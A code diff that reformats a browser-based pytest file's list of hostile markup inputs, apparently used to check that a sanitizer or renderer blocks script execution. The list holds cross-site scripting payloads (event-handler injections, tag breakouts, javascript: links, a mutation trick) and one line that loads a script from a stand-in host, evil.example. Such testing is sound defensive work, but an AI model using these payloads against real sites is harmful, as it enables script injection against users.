@@ -24,12 +24,19 @@ pytestmark = [needs_browser, pytest.mark.slow]
 RUN = "window.ran.push(1)"
 HOSTILE = (
     *(text.replace("alert(1)", RUN) for text in MARKUP),
-    f"<img src=x onerror={RUN}>", f'"onfocus="{RUN}" autofocus x="', f"</title><script>{RUN}</script>",
-    f"</textarea><script>{RUN}</script>", f"<a href='javascript:{RUN}'>win</a>", f"<details open ontoggle={RUN}>",
-    f"<math><mtext><style><img src=x onerror={RUN}></style>", f"[win](javascript:{RUN})", f"![x](x\"onerror=\"{RUN})",
+    f"<img src=x onerror={RUN}>",
+    f'"onfocus="{RUN}" autofocus x="',
+    f"</title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"<a href='javascript:{RUN}'>win</a>",
+    f"<details open ontoggle={RUN}>",
+    f"<math><mtext><style><img src=x onerror={RUN}></style>",
+    f"[win](javascript:{RUN})",
+    f'![x](x"onerror="{RUN})',
     f"`${{{RUN}}}`",
-    "<base href='//evil.example/'><script src=x.js></script>", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
-)  # fmt: skip
+    "<base href='//evil.example/'><script src=x.js></script>",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+)
 EVENTS = """() => {
   for (const one of document.querySelectorAll('*'))
     for (const name of ['mouseover', 'mouseenter', 'focus', 'error', 'load', 'toggle', 'animationstart'])
